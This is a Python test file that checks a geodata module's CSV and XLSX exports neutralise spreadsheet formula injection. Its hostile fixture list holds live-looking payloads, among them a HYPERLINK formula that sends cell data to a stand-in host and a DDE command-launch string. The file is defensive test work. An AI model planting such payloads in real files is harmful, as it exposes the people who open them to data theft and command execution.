"""Exports never carry a live formula (OWASP CSV injection): a hostile zone name stays text."""

from __future__ import annotations

import csv
import dataclasses
import io

import openpyxl
import pandas as pd

from geodata.export import to_csv, to_xlsx, zone_table

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"]


def hostile_table(atlas) -> pd.DataFrame:
    zones = atlas.zones.copy()
    ids = list(zones.index[: len(HOSTILE)])
    zones.loc[ids, "name"] = HOSTILE
    zones.loc[ids[0], "operator"] = "=1+1"
    table = zone_table(dataclasses.replace(atlas, zones=zones), pd.Series(True, index=zones.index))
    return table


def test_csv_cells_starting_a_formula_are_prefixed_and_numbers_stay_numbers(atlas):
    table = hostile_table(atlas)
    rows = list(csv.DictReader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert [r["name"] for r in rows[: len(HOSTILE)]] == ["'" + name for name in HOSTILE]
    assert all(not r["name"].startswith(("=", "+", "-", "@", "\t")) for r in rows)
    area = table["area_ha"].iloc[0]
    assert float(rows[0]["area_ha"]) == area and not rows[0]["area_ha"].startswith("'")
    assert rows[-1]["name"] == table["name"].iloc[-1]  # ordinary names untouched


def test_xlsx_holds_no_formula_and_keeps_numbers_numeric(atlas):
    table = hostile_table(atlas)
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(table, {"filters": "=cmd()", "title": "Atlas"})))
    sheet = book["zones"]
    header = [cell.value for cell in sheet[1]]
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type != "f" for row in cells for cell in row)
    names = [row[header.index("name")].value for row in cells[: len(HOSTILE)]]
    assert names == ["'" + name for name in HOSTILE]
    area = cells[0][header.index("area_ha")]
    assert area.data_type == "n" and area.value == table["area_ha"].iloc[0]
    about = {row[0].value: row[1] for row in book["about"].iter_rows(min_row=2)}
    assert about["filters"].value == "'=cmd()" and about["filters"].data_type == "s"
